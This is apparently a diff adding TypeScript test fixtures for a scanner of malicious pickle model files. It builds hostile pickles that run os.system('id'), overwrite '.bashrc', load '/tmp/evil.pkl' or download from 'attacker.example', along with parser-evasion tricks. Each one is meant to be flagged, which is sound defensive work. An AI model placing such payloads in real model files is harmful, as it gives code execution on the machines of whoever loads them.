@@ -1,0 +1,120 @@
+import type { UnseenCase } from './unseen-attacks.test.js';
+
+const short = (s: string) => `\x8c${String.fromCharCode(s.length)}${s}`;
+/** Protocol 4: STACK_GLOBAL of `module` + `name` (dotted names walk attributes), called with one string. */
+const call4 = (module: string, name: string, arg = 'x') =>
+  Buffer.from(`\x80\x04${short(module)}${short(name)}\x93${short(arg)}\x85R.`, 'latin1');
+
+/**
+ * Globals a model library exports that read or write files, fetch URLs or load other models: `pickle.load`'s
+ * `find_class` imports them and REDUCE calls them (CPython `Lib/pickle.py` `load_stack_global`, `load_reduce`).
+ * They were "unknown name of a model library" warnings, which pass the default gate.
+ */
+export const PICKLE_CASES: readonly UnseenCase[] = [
+  {
+    name: 'joblib.load under its own module name',
+    loader: 'joblib.numpy_pickle.load (unpickles another file)',
+    files: { 'm.pkl': call4('joblib.numpy_pickle', 'load', '/tmp/evil.pkl') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: "scikit-learn's re-export of joblib.load",
+    loader: 'sklearn.utils._joblib.load is joblib.load',
+    files: { 'm.pkl': call4('sklearn.utils._joblib', 'load', '/tmp/evil.pkl') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'Keras load_model of another (legacy .h5) model',
+    loader: 'keras.src.saving.saving_api.load_model',
+    files: { 'm.pkl': call4('keras.src.saving.saving_api', 'load_model', '/tmp/lambda.h5') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'numpy.savetxt writes a file',
+    loader: 'numpy.savetxt',
+    files: { 'm.pkl': call4('numpy', 'savetxt', '/home/u/.bashrc') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'torch model_zoo downloads and torch.loads a URL',
+    loader: 'torch.utils.model_zoo.load_url → torch.hub.load_state_dict_from_url',
+    files: { 'm.pkl': call4('torch.utils.model_zoo', 'load_url', 'https://attacker.example/x.pt') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'unbound DataFrame.to_pickle reached through the pandas alias',
+    loader: 'pickle _getattribute of a dotted protocol 4 name',
+    files: { 'm.pkl': call4('pandas', 'DataFrame.to_pickle') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'unbound ndarray.tofile',
+    loader: 'pickle _getattribute of a dotted protocol 4 name',
+    files: { 'm.pkl': call4('numpy', 'ndarray.tofile') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'scikit-learn dataset fetcher (network)',
+    loader: 'sklearn.datasets.fetch_openml',
+    files: { 'm.pkl': call4('sklearn.datasets', 'fetch_openml', 'x') },
+    want: ['CPI001:error'],
+  },
+  {
+    name: 'FRAME declaring more bytes than the file holds, os.system inside',
+    loader: 'Lib/pickle.py _Unframer.load_frame (short read accepted; joblib.load uses pickle._Unpickler)',
+    files: { 'm.joblib': shortFrame(call4('os', 'system', 'id')) },
+    want: ['CPI001:error', 'CPI007:warning'],
+  },
+  ...[
+    { name: 'BUILD with state None on a list', prefix: ']Nb', loader: '_pickle.c load_build skips a None state' },
+    { name: 'BUILD with state None on an int', prefix: 'K\x01Nb', loader: '_pickle.c load_build' },
+    {
+      name: 'BUILD with state (None, None) on a dict',
+      prefix: '}NN\x86b',
+      loader: 'Lib/pickle.py load_build (falsy state and slot state; joblib.load)',
+    },
+    { name: 'SETITEM on a list', prefix: '](K\x01eK\x00K\x02s', loader: 'load_setitem: list[0] = 2' },
+    {
+      name: 'INT with a leading zero (octal)',
+      prefix: 'I010\n',
+      loader: '_pickle.c load_int: strtol(s, &end, 0)',
+    },
+    { name: 'LONG with a leading zero', prefix: 'L010L\n', loader: '_pickle.c load_long: base 10' },
+  ].map(({ name, prefix, loader }) => ({
+    name: `${name}, then os.system`,
+    loader,
+    files: { 'm.pkl': Buffer.from(`\x80\x02${prefix}0cos\nsystem\n(S'id'\ntR.`, 'latin1') },
+    want: ['CPI001:error'],
+  })),
+  {
+    name: 'os.system after an opcode our VM stops on (lexical tail scan)',
+    loader: 'pickletools.genops-style walk past the stop: defence in depth where the unpicklers may go on',
+    files: { 'm.pkl': Buffer.from("\x80\x02]}K\x01K\x02sb0cos\nsystem\n(S'id'\ntR.", 'latin1') },
+    want: ['CPI001:error', 'CPI003:warning'],
+  },
+  {
+    name: 'STACK_GLOBAL names from the memo after the stop',
+    loader: 'pickletools.genops-style walk past the stop',
+    files: {
+      'm.pkl': Buffer.from(
+        '\x80\x04]}K\x01K\x02sb0\x8c\x02os\x94\x8c\x06system\x940h\x00h\x01\x93\x8c\x02id\x85R.',
+        'latin1',
+      ),
+    },
+    want: ['CPI001:error', 'CPI003:warning'],
+  },
+  {
+    name: 'truncated benign pickle: nothing to read past the stop',
+    loader: 'pickle.load raises at the truncation',
+    files: { 'm.pkl': Buffer.from('\x80\x02}q\x00(X\x01\x00\x00\x00aK\x01X\x05\x00\x00', 'latin1') },
+    want: ['CPI003:warning'],
+  },
+];
+
+/** Wraps a protocol 4 body in one FRAME that claims 8 bytes more than follow. */
+function shortFrame(p: Buffer): Buffer {
+  const body = p.subarray(2);
+  const len = Buffer.alloc(8);
+  len.writeBigUInt64LE(BigInt(body.length + 8));
+  return Buffer.concat([p.subarray(0, 2), Buffer.from([0x95]), len, body]);
+}
